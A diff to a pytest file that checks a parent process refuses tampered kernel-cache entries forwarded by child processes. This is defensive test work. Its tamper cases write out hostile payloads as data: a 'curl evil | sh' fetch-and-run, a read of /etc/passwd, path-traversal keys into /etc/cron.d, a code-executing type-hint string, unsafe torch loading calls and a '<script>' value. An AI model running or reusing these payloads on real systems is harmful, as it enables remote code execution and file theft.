@@ -389,18 +389,43 @@ def test_an_entry_without_a_recorded_hash_is_ignored(tmp_path):
     assert KernelCache(tmp_path).get(k) is None
 
 
+SIGNATURE = "0123abcd4567ef89"  # SubProblem.signature: 16 hex digits
+
+
+def parent_key(signature: str) -> str:
+    """The key the parent computes for a forwarded entry (``api._key_for``)."""
+    return key(signature=signature)
+
+
+def forwarded(source=None, **changes) -> dict:
+    entry = make_entry(GOOD_KERNEL if source is None else source, signature=SIGNATURE, **changes)
+    return {"key": parent_key(SIGNATURE), "entry": json.loads(json.dumps(entry.to_dict()))}
+
+
 def test_a_child_cache_forwards_entries_instead_of_writing(tmp_path):
     sent = []
     child = KernelCache(tmp_path, forward=sent.append)
-    k = key()
-    child.put(k, make_entry(GOOD_KERNEL))
+    k = parent_key(SIGNATURE)
+    child.put(k, make_entry(GOOD_KERNEL, signature=SIGNATURE))
     assert not any(tmp_path.iterdir()), "the child's cache wrote a file"
     assert child.writes == 1 and sent[0]["key"] == k
     parent = KernelCache(tmp_path)
-    assert cache_mod.store_forwarded(parent, json.loads(json.dumps(sent[0]))) is True
+    assert cache_mod.store_forwarded(parent, json.loads(json.dumps(sent[0])), parent_key, origin="run 1 of m") is True
     assert KernelCache(tmp_path).get(k).source == GOOD_KERNEL
 
 
+ROUTE_KERNELS = [
+    GOOD_KERNEL + "\nimport typing\n\ndef f(x: \"__import__('os').system('id')\"):\n    pass\n\nH = typing.get_type_hints(f)\n",
+    GOOD_KERNEL + "\nM = torch.hub.load('someone/repo', 'model')\n",
+    GOOD_KERNEL + "\nE = torch.utils.cpp_extension.load_inline('x', 'int f() { return 0; }')\n",
+    GOOD_KERNEL + "\nW = torch.load('w.pt', weights_only=False)\n",
+    GOOD_KERNEL + "\ntorch.ops.load_library('/tmp/x.so')\n",
+    GOOD_KERNEL + "\nimport functools\n",
+    GOOD_KERNEL + "\nK = type(launch).mro\n",
+]
+
+
+@pytest.mark.sandbox
 @pytest.mark.parametrize("tamper", [
     lambda m: m["entry"].update(source=GOOD_KERNEL + "\nimport os\nos.system('curl evil | sh')\n"),
     lambda m: m["entry"].update(source=GOOD_KERNEL + "\nopen('/etc/passwd').read()\n"),
@@ -410,12 +435,53 @@ def test_a_child_cache_forwards_entries_instead_of_writing(tmp_path):
     lambda m: m.update(key="../../etc/cron.d/x"),
     lambda m: m.update(entry={"signature": "abc"}),
     lambda m: m["entry"].update(passed=False),
-], ids=["os-system", "open", "subprocess-import", "no-kernel", "too-long", "bad-key", "malformed", "passed-disagrees"])
+    *[(lambda source: lambda m: m["entry"].update(source=source))(source) for source in ROUTE_KERNELS],
+    lambda m: m.update(key=parent_key("ffffffffffffffff")),  # a key of the child's choosing: another signature's
+    lambda m: m.update(key=key(signature=SIGNATURE, device="cuda:NVIDIA H200")),  # another device's
+    lambda m: m["entry"].update(signature="../../x"),
+    lambda m: m["entry"].update(kernel_name="../../../etc/x"),
+    lambda m: m["entry"].update(agent="<script>"),
+], ids=["os-system", "open", "subprocess-import", "no-kernel", "too-long", "bad-key", "malformed", "passed-disagrees",
+        "get-type-hints", "torch-hub", "load-inline", "torch-load", "load-library", "functools", "type-mro",
+        "child-chosen-key", "other-device-key", "bad-signature", "bad-kernel-name", "bad-agent"])
 def test_the_parent_refuses_forwarded_entries_that_do_not_check(tmp_path, caplog, tamper):
-    message = {"key": key(), "entry": make_entry(GOOD_KERNEL).to_dict()}
+    message = forwarded()
     tamper(message)
     parent = KernelCache(tmp_path)
     with caplog.at_level(logging.WARNING, logger="lego_core.cache"):
-        assert cache_mod.store_forwarded(parent, message) is False
+        assert cache_mod.store_forwarded(parent, message, parent_key) is False
     assert "not stored" in caplog.text
     assert not list(tmp_path.rglob("*.json"))
+
+
+@pytest.mark.sandbox
+def test_the_parent_keeps_no_negative_entry_from_the_child(tmp_path):
+    """A forwarded "no kernel passed" would make every later run skip the
+    signature (and keep the template's kernel out): not stored."""
+    message = {"key": parent_key(SIGNATURE), "entry": make_entry(None, signature=SIGNATURE).to_dict()}
+    assert cache_mod.store_forwarded(KernelCache(tmp_path), message, parent_key) is False
+    assert not list(tmp_path.rglob("*.json"))
+
+
+@pytest.mark.sandbox
+def test_the_parent_writes_origin_and_time_itself(tmp_path):
+    message = forwarded(origin="run 0 of <b>trusted</b>", created=0.0)
+    assert cache_mod.store_forwarded(KernelCache(tmp_path), message, parent_key, origin="run 7 of mlp") is True
+    entry = KernelCache(tmp_path).get(parent_key(SIGNATURE))
+    assert entry.origin == "run 7 of mlp" and entry.created > 1.7e9
+
+
+def test_the_parent_keys_a_run_from_what_it_knows(monkeypatch):
+    """api._key_for: the engine's key (search.engine._cache_key) for the
+    run's device (a GPU's name from the parent's own probe), dtype, agent and
+    config, never the child's word."""
+    from lego_core import api, gpu_probe
+    from lego_core.config import OptimizeConfig
+    from lego_core.spec import ProblemSpec
+
+    config = OptimizeConfig()
+    cpu = api._key_for(ProblemSpec("m.py", {}, dtype="bf16"), config)
+    assert cpu(SIGNATURE) == cache_key(SIGNATURE, "cpu", "bfloat16", "template", config.key())
+    monkeypatch.setattr(gpu_probe, "probe", lambda: {"name": "NVIDIA H200", "locks": []})
+    cuda = api._key_for(ProblemSpec("m.py", {}, device="cuda"), config)
+    assert cuda(SIGNATURE) == cache_key(SIGNATURE, "cuda:NVIDIA H200", "float32", "template", config.key())
